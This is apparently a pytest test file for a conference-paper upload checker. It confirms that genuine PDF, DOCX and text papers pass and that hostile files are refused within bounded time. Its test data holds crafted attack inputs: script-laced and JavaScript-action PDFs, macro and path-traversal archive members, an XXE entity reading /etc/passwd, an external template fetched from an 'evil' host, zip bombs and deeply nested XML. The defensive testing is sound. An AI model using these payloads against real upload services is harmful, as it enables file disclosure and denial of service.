import contextlib
import io
import random
import re
import resource
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import docx
import pytest

from summit.agenda import files, inspection
from summit.errors import Refused
from summit.management.demo.papers import pdf, text

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def word() -> bytes:
    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("The Summit,")
    document.save(out)
    return out.getvalue()


def with_member(name: str, content: bytes, *, mode: int = 0, source: bytes | None = None) -> bytes:
    out = io.BytesIO(source if source is not None else word())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        info.external_attr = mode << 16
        archive.writestr(info, content)
    return out.getvalue()


def bare(*members: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def understated(content: bytes) -> bytes:
    """The last member's declared size is a lie."""
    at = content.rindex(b"PK\x01\x02") + 24
    return content[:at] + (10).to_bytes(4, "little") + content[at + 4 :]


GOOD = {
    "paper.pdf": pdf("Draft", "A/1/L.4", ("One.",)),
    "paper.PDF": pdf("Draft", "A/1/L.4", ("One.",)),
    "paper.docx": word(),
    "paper.txt": text("临时议程", "A/1", ("一",)),
}
TYPES = f'<Types><Override ContentType="{MAIN}"/></Types>'.encode()
ATTACKS = {
    "html called pdf": ("a.pdf", b"<html><script>alert(1)</script>"),
    "pdf header, cut off": ("a.pdf", GOOD["paper.pdf"][:-40]),
    "html before a pdf": ("a.pdf", b"<script>1</script>" + GOOD["paper.pdf"]),
    "pdf with a program": ("a.pdf", GOOD["paper.pdf"].replace(b"/Type /Catalog", b"/OpenAction << /S /JavaScript >>")),
    "something after the pdf": ("a.pdf", GOOD["paper.pdf"] + b"<script>"),
    "zip called docx": ("a.docx", bare(("a.txt", b"hello"))),
    "pdf called docx": ("a.docx", GOOD["paper.pdf"]),
    "docx without text": ("a.docx", bare(("[Content_Types].xml", TYPES))),
    "docx cut off": ("a.docx", GOOD["paper.docx"][:-200]),
    "macros": ("a.docx", with_member("word/vbaProject.bin", b"x")),
    "path outside": ("a.docx", with_member("../../etc/passwd", b"x")),
    "absolute path": ("a.docx", with_member("/etc/passwd", b"x")),
    "windows path": ("a.docx", with_member("..\\evil.exe", b"x")),
    "link inside": ("a.docx", with_member("word/link", b"/etc/passwd", mode=0o120777)),
    "entities": (
        "a.docx",
        with_member("word/extra.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    ),
    "template from elsewhere": (
        "a.docx",
        with_member(
            "word/_rels/settings.xml.rels",
            b'<Relationship Type="http://x/attachedTemplate" Target="https://evil/t.dotm" TargetMode="External"/>',
        ),
    ),
    "bomb": ("a.docx", with_member("word/media/big.bin", b"\0" * (60 * 1024 * 1024))),
    "many members": ("a.docx", bare(*((f"m{i}", b"") for i in range(inspection.MEMBERS + 1)))),
    "bomb of a thousand parts": (
        "a.docx",
        bare(("[Content_Types].xml", TYPES), *((f"word/{i}.xml", b" " * 1_000_000) for i in range(1000))),
    ),
    "a part that grows while it is read": ("a.docx", understated(with_member("word/x.xml", b"a" * 900_000))),
    "not utf-8": ("a.txt", "Årsrapport".encode("latin-1")),
    "a program called txt": ("a.txt", b"MZ\x00\x01\x02"),
}


@pytest.mark.parametrize("name", GOOD)
def test_real_papers_are_kept(name):
    found = files.look_into(name, GOOD[name])
    assert found.kind == name.rsplit(".")[-1].lower() and found.size == len(GOOD[name]) and len(found.sha256) == 64


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_lying_or_dangerous_file_is_refused_quickly(attack):
    name, content = ATTACKS[attack]
    began = time.monotonic()
    with pytest.raises(Refused) as refused:
        files.look_into(name, content)
    assert refused.value.code == "paper.content"
    assert time.monotonic() - began < 2


@pytest.mark.parametrize("name", ["a.exe", "a", "a.pdf.html", "a.svg", ".pdf.", "a.docm"])
def test_other_endings_are_refused(name):
    with pytest.raises(Refused) as refused:
        files.look_into(name, GOOD["paper.pdf"])
    assert refused.value.code == "paper.ending"


def test_empty_and_too_large_files_are_refused(settings):
    with pytest.raises(Refused) as refused:
        files.look_into("a.pdf", b"")
    assert refused.value.code == "paper.empty"
    settings.UPLOAD_LIMIT = 10
    with pytest.raises(Refused) as refused:
        files.look_into("a.pdf", GOOD["paper.pdf"])
    assert refused.value.code == "paper.size"


NOISE = random.Random(1).randbytes(8 * 1024 * 1024)  # packs to its own size: hides any ratio
HEAVY = {
    "a million openings without an end": (
        "a.docx",
        bare(
            ("[Content_Types].xml", TYPES), ("word/document.xml", b"<a/>"),
            ("word/x.rels", NOISE[: 1024 * 1024] + b"<Relationship " * 3_000_000),
        ),
    ),
    "a million levels": (
        "a.docx", bare(("[Content_Types].xml", TYPES), ("word/document.xml", b"<a>" * 5_000_000 + NOISE[: 1024 * 1024]))
    ),
    "a table of a million objects": (
        "a.pdf",
        b"%PDF-1.7\n" + b"xref\n0 1100000\n" + b"0000000000 65535 f \n" * 1_100_000
        + b"trailer\n<< >>\nstartxref\n9\n%%EOF\n",
    ),
}  # fmt: skip


@pytest.mark.parametrize("attack", HEAVY)
def test_a_file_made_to_be_slow_is_read_in_bounded_time(attack):
    name, content = HEAVY[attack]
    assert len(content) < 25 * 1024 * 1024
    before, began = resource.getrusage(resource.RUSAGE_CHILDREN), time.monotonic()
    with contextlib.suppress(Refused):  # kept or not: it is the time that matters
        files.look_into(name, content)
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime < inspection.CPU / 2
    assert time.monotonic() - began < files.PATIENCE


@pytest.mark.parametrize(
    ("work", "ends"),
    [("while True: pass", -signal.SIGKILL), ("bytearray(2**30)", 3), ("__import__('os').write(1, b'x' * 9)", 1)],
)
def test_the_child_cannot_take_more_than_its_limits_whatever_it_runs_into(work, ends, tmp_path):
    program = f"""
import runpy, sys
sys.argv = ["inspection.py", "txt"]
part = runpy.run_path({inspection.__file__!r})
part["main"].__globals__.update(CPU=1)
def runs_away(content):
    {work}
part["LOOK"]["txt"] = runs_away
sys.exit(part["main"]())
"""
    command = [sys.executable, "-I", "-S", "-c", program]
    with (tmp_path / "out").open("wb") as file:
        child = subprocess.run(command, input=b"x", stdout=file, stderr=subprocess.PIPE, timeout=30, check=False)
    assert child.returncode == ends, child.stderr
    assert ends != 3 or child.stderr == b"too_much"


def test_whoever_waits_too_long_for_a_file_is_told(monkeypatch):
    monkeypatch.setattr(files, "PATIENCE", 0.001)
    with pytest.raises(Refused) as refused:
        files.look_into("a.docx", GOOD["paper.docx"])
    assert (refused.value.code, str(refused.value.message)) == ("paper.content", str(files.WHY["too_much"]))


def test_every_fault_of_the_child_has_its_sentence():
    source = Path(inspection.__file__).read_text()
    assert set(re.findall(r'(?:Fault\(|write\()"(\w+)"', source)) == set(files.WHY)
